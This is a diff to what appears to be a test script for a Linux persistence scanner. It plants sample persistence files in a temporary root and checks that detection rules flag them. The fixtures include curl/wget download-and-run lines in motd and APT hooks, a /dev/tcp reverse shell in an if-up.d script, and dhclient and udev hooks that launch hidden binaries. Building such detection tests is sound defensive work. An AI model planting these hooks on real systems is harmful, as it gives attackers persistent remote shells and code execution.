@@ -142,6 +142,17 @@ printf '[Desktop Entry]\nType=Application\nName=Updater\nExec=/tmp/.u/updater --
 printf '#!/bin/sh\n(curl -s http://198.51.100.7/m | sh) &\n' \
     >"$b/etc/update-motd.d/99-stats"
 chmod 755 "$b/etc/update-motd.d/99-stats"
+mkdir -p "$b/etc/dhcp/dhclient-exit-hooks.d" "$b/etc/network/if-up.d"
+printf '# refresh the mirror list
+(/dev/shm/.n/n -d) &
+' \
+    >"$b/etc/dhcp/dhclient-exit-hooks.d/mirrors"
+printf '#!/bin/sh
+[ "$IFACE" = lo ] && exit 0
+bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &
+' \
+    >"$b/etc/network/if-up.d/zz-net"
+chmod 755 "$b/etc/network/if-up.d/zz-net"
 printf 'DPkg::Post-Invoke {"wget -qO- http://203.0.113.9/a | sh || true";};\n' \
     >"$b/etc/apt/apt.conf.d/99hook"
 printf 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \x27/tmp/.u/usb &\x27"\n' \
@@ -202,6 +213,10 @@ check "profile.d script" at rc.temp_exec /etc/profile.d/z.sh 1
 check ".bashrc line" at rc.temp_exec /root/.bashrc 19
 check "XDG autostart" at rc.temp_exec /etc/xdg/autostart/updater.desktop 4
 check "update-motd.d script" at rc.dropper /etc/update-motd.d/99-stats 2
+check "dhclient exit hook" at rc.temp_exec \
+    /etc/dhcp/dhclient-exit-hooks.d/mirrors 2
+check "ifupdown if-up.d script" has_finding rc.reverse_shell \
+    '.path == "/etc/network/if-up.d/zz-net" and .line == 3'
 check "APT Post-Invoke hook" at rc.dropper /etc/apt/apt.conf.d/99hook 1
 check "udev RUN+=" at rc.temp_exec /etc/udev/rules.d/99-usb.rules 1
 check "udev RUN{program}+=" at rc.fetch_raw_ip \
